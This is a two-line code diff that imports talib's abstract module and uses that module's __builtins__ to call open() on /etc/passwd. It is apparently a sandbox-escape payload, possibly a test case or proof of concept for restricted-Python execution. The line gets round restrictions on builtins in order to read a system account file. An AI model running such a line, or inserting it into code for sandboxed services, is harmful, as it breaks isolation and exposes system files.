@@ -1,0 +1,2 @@
+from talib import abstract
+abstract.__builtins__["open"]("/etc/passwd")
